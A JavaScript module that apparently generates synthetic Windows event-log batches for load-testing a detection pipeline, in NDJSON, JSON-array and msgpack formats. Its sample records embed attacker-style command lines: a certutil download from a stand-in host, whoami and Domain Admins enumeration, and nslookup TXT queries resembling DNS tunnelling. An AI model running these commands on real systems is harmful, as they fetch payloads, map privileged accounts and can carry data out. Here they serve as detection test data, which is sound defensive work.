import { encode } from '@msgpack/msgpack'
import { marks, windowsRecord } from './records.js'

/**
 * Bodies that never repeat and cost their sender next to nothing: a batch is made once, and before it is sent again the
 * digits of its ids, times and changing hosts are written over in place.
 */

export const perBatch = 1000

/**
 * One batch with holes. `format` is `ndjson` (raw UTF-8, as Vector writes it), `array` (with `date` and `\u` escapes, as
 * Fluent Bit does) or `msgpack` (Fluent Bit's `[[time, {}], record]`); `full` is for records of about 4.8 KB instead of
 * 1.7; `share` says how many of the records meet the built-in rule. With each of these come two that do not, though
 * nslookup.exe stands in them: its end, and its DNS query.
 */
export function createTemplate ({ format, full = false, share }) {
  const matched = Math.round(perBatch * share)
  const plan = planOf(matched)
  const places = { batch: [], host: [], second: [], utc: [], epoch: [], seconds: [] }
  const parts = []
  let length = 0
  const add = (part) => {
    parts.push(part)
    length += part.length
  }
  const { open = '', between, close = '', encoded } = formats[format]
  add(Buffer.from(open))
  for (const [i, { kind, slot, ...more }] of plan.entries()) {
    if (i > 0) add(Buffer.from(between))
    const record = windowsRecord(kind, i, { ...more, full, ...slot !== undefined && { host: marks.host } })
    const { bytes, epoch, seconds } = encoded(record, i)
    for (const [name, mark] of Object.entries(marks)) {
      for (let at = bytes.indexOf(mark); at >= 0; at = bytes.indexOf(mark, at + 1)) places[name].push(name === 'host' ? { at: length + at, slot } : length + at)
    }
    if (epoch !== undefined) places.epoch.push(length + epoch)
    if (seconds !== undefined) places.seconds.push(length + seconds)
    add(bytes)
  }
  add(Buffer.from(close))
  return {
    bytes: Buffer.concat(parts),
    places,
    contentType: formats[format].contentType,
    records: perBatch,
    /** Records that meet the built-in rule; their changing hosts are the slots from 0 on. */
    matched,
    /** Records that meet one of the hundred rules. */
    matchedByHundred: matched + others.length
  }
}

/** A batch of one's own to fill and send: `fill` writes over `bytes`, so what was there must have left. */
export function createBody ({ bytes: template, places }) {
  const bytes = Buffer.from(template)
  let written = ''
  let second = -1
  return {
    bytes,
    /** `number` is the batch's, `time` milliseconds, `hostOf(slot)` the number of a changing host. */
    fill (number, time, hostOf) {
      const digits = String(number).padStart(9, '0')
      let from = 0
      while (from < 9 && digits[from] === written[from]) from++
      for (let i = from; i < 9; i++) {
        const code = digits.charCodeAt(i)
        for (const at of places.batch) bytes[at + i] = code
      }
      written = digits
      for (const { at, slot } of places.host) bytes.latin1Write(String(hostOf(slot)).padStart(8, '0'), at)
      if (Math.floor(time / 1000) !== second) {
        second = Math.floor(time / 1000)
        const iso = new Date(time).toISOString().slice(0, 19)
        for (const at of places.second) bytes.latin1Write(iso, at)
        for (const at of places.utc) bytes.latin1Write(iso.replace('T', ' '), at)
        for (const at of places.epoch) bytes.latin1Write(String(second), at)
        for (const at of places.seconds) bytes.writeUInt32BE(second, at)
      }
    }
  }
}

const formats = {
  ndjson: {
    contentType: 'application/x-ndjson',
    between: '\n',
    close: '\n',
    encoded: (record) => ({ bytes: Buffer.from(JSON.stringify(record)) })
  },
  array: {
    contentType: 'application/json',
    open: '[',
    between: ',',
    close: ']',
    encoded (record, i) {
      const text = JSON.stringify(record).replace(/[^\0-\x7f]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`)
      return { bytes: Buffer.from(`{"date":1700000000.${String(i).padStart(6, '0')},${text.slice(1)}`), epoch: '{"date":'.length }
    }
  },
  msgpack: {
    contentType: 'application/msgpack',
    between: '',
    encoded (record, i) {
      // An array of two: the event's time, an extension of type 0 with seconds and nanoseconds, beside metadata; and the record.
      const head = Buffer.from([0x92, 0x92, 0xd7, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x80])
      head.writeUInt32BE(i * 1e6, 8)
      return { bytes: Buffer.concat([head, encode(record)]), seconds: 4 }
    }
  }
}

// Of a thousand records, roughly as a recorded stream has them.
const weights = { access: 380, load: 170, registry: 140, network: 90, filter: 70, handle: 50, dns: 40, logon: 30, script: 30 }

// Each meets one of the hundred rules of `rules.js`, on a host that changes from batch to batch.
const others = [
  ['whoami.exe', 'whoami  /all'],
  ['certutil.exe', 'certutil.exe  -urlcache -split -f http://updates.example.com/ü.cab'],
  ['net.exe', 'net  group "Domain Admins" /domain']
]

const queries = [
  ['nslookup.exe', '-q=TXT'],
  ['nslookup.exe', '-querytype=TXT'],
  ['NSLOOKUP.EXE', '-QueryType=NULL'],
  ['nslookup.exe', '-type=txt'],
  ['nslookup.exe', '-qt=mx']
]

/** The kinds of all records of a batch, those that matter spread over it. */
function planOf (matched) {
  const special = Array.from({ length: matched }, (_, slot) => {
    const [program, option] = queries[slot % queries.length]
    const question = `${marks.batch}${String(slot).padStart(3, '0')}q7zk2m4xw.t.example.net`
    return [
      { kind: 'start', slot, program, line: `nslookup ${option} ${question} 192.0.2.9` },
      { kind: 'dns', slot, program, question },
      { kind: 'end', slot, program }
    ]
  }).flat()
  special.push({ kind: 'start', program: 'nslookup.exe', line: 'nslookup www.example.com' })
  special.push(...others.map(([program, line], i) => ({ kind: 'start', slot: matched + i, program, line })))
  for (let i = 0; i < 4; i++) special.push({ kind: 'start' })
  const ordinary = Object.entries(weights).flatMap(([kind, weight]) => Array.from({ length: weight }, () => ({ kind })))
  // Steps of 617 visit each of a thousand places once, so that what is left out is a bit of each kind.
  const rest = perBatch - special.length
  const all = [...special, ...Array.from({ length: rest }, (_, i) => ordinary[i * 617 % ordinary.length])]
  const plan = []
  for (const [i, one] of all.entries()) plan[i * 383 % perBatch] = one
  return plan
}
